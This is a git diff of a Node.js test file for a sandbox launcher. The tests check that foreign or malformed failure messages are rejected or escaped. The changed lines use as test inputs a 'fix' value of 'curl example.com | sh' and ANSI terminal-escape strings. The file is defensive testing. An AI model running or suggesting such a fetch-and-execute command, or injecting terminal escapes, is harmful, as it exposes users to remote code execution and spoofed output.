@@ -2,7 +2,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { failureIn } from '../../../sandbox/supervisor/start/launch-sandbox.js';
-import { printable } from '../../../shared/printable.js';
 
 const SAID = { step: 'command', code: 'failed', message: 'said', exitStatus: 127 };
 const FOREIGN = /: What came on the launch socket is no message of a launcher$/;
@@ -22,6 +21,7 @@ test('a failure of the launcher is told as it says', () => {
 
 // proves: launch: the code of a failure is a word
 // proves: launch: the message of a failure has a bound
+// proves: launch: nobody but postern gives the fix of a failure
 test('what no launcher says is not told, and says so', () => {
   for (const said of [
     ...['exec ', '{', 'null', '[]', '7', '"text"', {}],
@@ -38,6 +38,7 @@ test('what no launcher says is not told, and says so', () => {
     ...[
       { ...SAID, code: 'a\u001b[31m' },
       { ...SAID, message: 'x'.repeat(5_000) },
+      { ...SAID, fix: 'curl example.com | sh' },
     ],
   ]) {
     const { code, message, exitStatus } = failure(said);
@@ -47,13 +48,7 @@ test('what no launcher says is not told, and says so', () => {
 });
 
 // proves: launch: the message of a failure is one line
-// proves: launch: nobody but postern gives the fix of a failure
-test('a message that acts on a terminal is told as text, and a fix of somebody else not at all', () => {
-  const { message, fix } = failure({
-    ...SAID,
-    message: '\u001b[31mboo\nfake line',
-    fix: 'curl example.com | sh',
-  });
-  assert.equal(message, printable('\u001b[31mboo\nfake line'));
-  assert.equal(fix, undefined);
+test('a message that acts on a terminal is told as text', () => {
+  const { message } = failure({ ...SAID, message: '\u001b[31mboo\nfake line' });
+  assert.equal(message, '\\u001b[31mboo\\u000afake line');
 });
